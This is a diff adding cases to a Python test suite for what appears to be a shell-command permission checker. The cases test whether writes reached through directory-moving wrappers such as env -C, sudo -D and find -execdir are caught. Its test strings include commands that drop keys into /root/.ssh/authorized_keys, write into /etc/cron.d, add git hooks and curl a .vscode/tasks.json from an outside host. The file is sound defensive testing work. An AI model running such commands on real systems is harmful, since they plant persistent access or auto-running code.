@@ -24,7 +24,8 @@ def _asking(commands: tuple[str, ...]) -> list[tuple[str, str]]:
 
 
 def test_a_write_after_a_move_is_judged_where_it_lands() -> None:
-    """Each wrote a home's start-up files, .ssh, /etc or .git unasked before."""
+    """Each wrote a home's start-up files, .ssh, /etc or .git unasked before (env -C and
+    sudo -D move the command they wrap)."""
     moved = {
         "cd /root/.ssh && cp k authorized_keys": f"cp writes {KEYS}: '{KEYS}' is inside .ssh/",
         "cd /etc/profile.d; echo x > a.sh": "> /etc/profile.d/a.sh: /etc/profile.d/a.sh is the",
@@ -45,6 +46,10 @@ def test_a_write_after_a_move_is_judged_where_it_lands() -> None:
         "sh -c 'cd /root/.ssh && cp k authorized_keys'": "cp writes /root/.ssh/authorized_keys",
         "cd .git && echo x > hooks/pre-commit": "> .git/hooks/pre-commit: writes inside .git",
         "cd .vscode && curl -so tasks.json https://e.com/t": "curl writes .vscode/tasks.json",
+        "env -C /root cp x .curlrc": "cp writes /root/.curlrc",
+        "env --chdir=/root/.ssh cp k authorized_keys": f"cp writes {KEYS}",
+        "sudo -D /root/.ssh cp k authorized_keys": f"cp writes {KEYS}",
+        "sudo --chdir /etc/cron.d tee a < x": "tee writes /etc/cron.d/a",
     }
     assert _missed(moved) == []
 
@@ -62,6 +67,8 @@ def test_a_write_in_a_directory_that_cannot_be_known_asks() -> None:
         "export CDPATH=/root; cd .ssh; cp k authorized_keys": "(cd .ssh searches CDPATH)",
         "env CDPATH=/root sh -c 'cd .ssh && cat > authorized_keys'": "> authorized_keys",
         "pushd /tmp; pushd +1; echo x > .curlrc": "(pushd +1)",
+        "sudo -u bob -i tee .curlrc < x": "(sudo -i runs in its user's home)",
+        "find /root -maxdepth 0 -execdir cp x .curlrc ';'": "(find -execdir runs in each found",
         "cd ~ && cp x .curlrc": "tilde expansion",
         'cd "$HOME" && ln -sf x bin/ls': "variable expansion",
         "cd $(mktemp -d) && cp x .curlrc": "command substitution",
@@ -84,5 +91,8 @@ def test_ordinary_moves_stay_unasked() -> None:
         "tar -xzf a.tgz",
         "unzip -o a.zip",
         "cd ./src && ls -la > ../files.txt",
+        "env -C build cp a b",
+        "sudo -u root cp a /srv/b",
+        "find . -name '*.o' -execdir ls ';'",
     )
     assert _asking(ordinary) == []
